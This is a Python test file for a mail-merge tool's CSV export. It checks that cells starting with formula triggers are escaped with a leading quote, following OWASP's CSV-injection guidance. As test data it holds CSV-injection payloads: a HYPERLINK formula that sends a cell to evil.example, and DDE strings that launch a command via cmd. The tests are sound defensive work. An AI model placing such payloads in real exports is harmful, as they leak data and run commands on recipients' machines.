"""The CSV every export writes: a spreadsheet shows recipients' data as text, never runs it
(OWASP's CSV-injection guidance), and a CSV reader gets every cell back."""

from __future__ import annotations

import csv
import io

import pytest

from mailmerger_shared.csv_export import FORMULA_TRIGGERS, csv_line

FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


def read_back(line: bytes) -> list[str]:
    return next(csv.reader(io.StringIO(line.decode(), newline="")))


@pytest.mark.parametrize("cell", FORMULAS.values(), ids=FORMULAS.keys())
def test_a_cell_that_could_start_a_formula_is_quoted_behind_a_single_quote(cell: str) -> None:
    """Each trigger OWASP lists gets a leading ``'`` and quotes; a reader gets ``'`` + the cell."""
    line = csv_line(["row", cell])
    assert line.startswith(b"row,\"'")
    assert read_back(line) == ["row", "'" + cell]


def test_every_trigger_is_covered() -> None:
    """The triggers are exactly OWASP's: =, +, -, @, tab and carriage return."""
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def test_plain_text_and_numbers_are_written_as_they_are() -> None:
    """Ordinary cells are unchanged; numbers (negative ones too) stay numbers."""
    assert csv_line([1, "a@example.org", "sent", -3, 2.5, None, ""]) == b"1,a@example.org,sent,-3,2.5,,\r\n"


def test_cells_with_separators_or_quotes_are_quoted_as_rfc_4180_says() -> None:
    """Commas, quotes and line breaks are quoted, quotes doubled, and read back intact."""
    cells = ['say "hi"', "a,b", "two\nlines"]
    line = csv_line(cells)
    assert line == b'"say ""hi""","a,b","two\nlines"\r\n'
    assert read_back(line) == cells


def test_a_trigger_later_in_the_cell_is_left_alone() -> None:
    """Only the first character decides: ``a=b`` and ``x@y`` are plain text."""
    assert csv_line(["a=b", "x@y.org"]) == b"a=b,x@y.org\r\n"
